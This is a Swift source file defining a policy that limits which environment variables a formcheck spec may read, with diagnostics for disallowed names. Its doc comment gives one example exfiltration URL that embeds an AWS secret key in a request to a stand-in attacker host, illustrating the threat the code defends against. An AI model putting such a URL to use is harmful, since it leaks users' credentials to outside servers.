/// Which environment variables a spec's services may read as `${NAME}`: those whose names
/// start with ``prefix`` and those the user allows by name (`formcheck --allow-env NAME`).
///
/// A spec may come from someone else (a pull request, a download): were every variable
/// readable, `url: "https://evil.test/${AWS_SECRET_ACCESS_KEY}"` would send a secret of the
/// user's environment to a server of the spec's choosing. Any other variable is an error
/// (FR214) for ``SpecChecker`` and a refusal for ``Form``, before any request; the CLI
/// hands a session only the variables allowed.
package struct VariablePolicy: Sendable, Equatable {
  /// The prefix of the names every spec may read.
  package static let prefix = "FORMCHECK_"

  /// The other names allowed.
  package var allowedNames: Set<String>

  /// A policy allowing the `FORMCHECK_…` names and `allowedNames`.
  package init(allowing allowedNames: Set<String> = []) {
    self.allowedNames = allowedNames
  }

  /// Whether a spec may read the variable `name`.
  package func allows(_ name: String) -> Bool {
    name.hasPrefix(Self.prefix) || allowedNames.contains(name)
  }

  /// An FR214 error at each `${NAME}` of `services` that this policy does not allow.
  func diagnostics(for services: [ServiceDefinition]) -> [Diagnostic] {
    services.flatMap { service in
      service.variables.filter { !allows($0.value) }.map { variable in
        Diagnostic(
          .variableNotAllowed, at: variable.location,
          "service '\(service.name.value)' may not read the environment variable '\(variable.value)': only variables named '\(Self.prefix)…' and those allowed by name are read",
          notes: [
            Diagnostic.Note(
              "a spec cannot read the rest of your environment, so that one from someone else cannot send it away; rename the variable '\(Self.prefix)…', or allow it with 'formcheck --allow-env \(variable.value)'"
            )
          ])
      }
    }
  }
}
